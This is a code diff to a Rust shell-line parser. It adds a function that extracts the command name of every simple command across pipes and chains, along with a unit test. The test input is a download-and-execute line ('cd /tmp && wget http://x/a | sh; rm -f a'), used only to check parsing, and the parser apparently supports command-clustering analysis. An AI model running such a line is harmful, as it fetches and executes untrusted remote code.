@@ -438,6 +438,23 @@ impl LineBuf {
     }
 }
 
+/// Lex `line` into `buf` and call `f` with the head word (the command
+/// name) of every simple command — across pipelines and `;`/`&&`/`||`
+/// chains, in source order. Commands with no name (bare redirections,
+/// empty segments) are skipped. Reuses `buf`'s arenas, so steady-state
+/// callers allocate nothing; the clustering feature extractor drives this
+/// over the interned command pool to build its n-gram vocabulary.
+pub fn for_each_command_head(buf: &mut LineBuf, line: &str, mut f: impl FnMut(&str)) {
+    buf.parse(line);
+    for stmt in buf.statements() {
+        for cmd in stmt.commands() {
+            if let Some(name) = cmd.name() {
+                f(name);
+            }
+        }
+    }
+}
+
 /// Borrowed view of one statement.
 #[derive(Clone, Copy)]
 pub struct StmtView<'a> {
@@ -858,6 +875,19 @@ mod tests {
         let s = split_statements("uname -a");
         assert_eq!(s.len(), 1);
         assert_eq!(s[0].pipeline[0].argv, vec!["uname", "-a"]);
+    }
+
+    #[test]
+    fn command_heads_walk_chains_and_pipes() {
+        let mut buf = LineBuf::new();
+        let mut heads = Vec::new();
+        for_each_command_head(&mut buf, "cd /tmp && wget http://x/a | sh; rm -f a", |h| {
+            heads.push(h.to_string())
+        });
+        assert_eq!(heads, vec!["cd", "wget", "sh", "rm"]);
+        heads.clear();
+        for_each_command_head(&mut buf, "   ", |h| heads.push(h.to_string()));
+        assert!(heads.is_empty());
     }
 
     #[test]
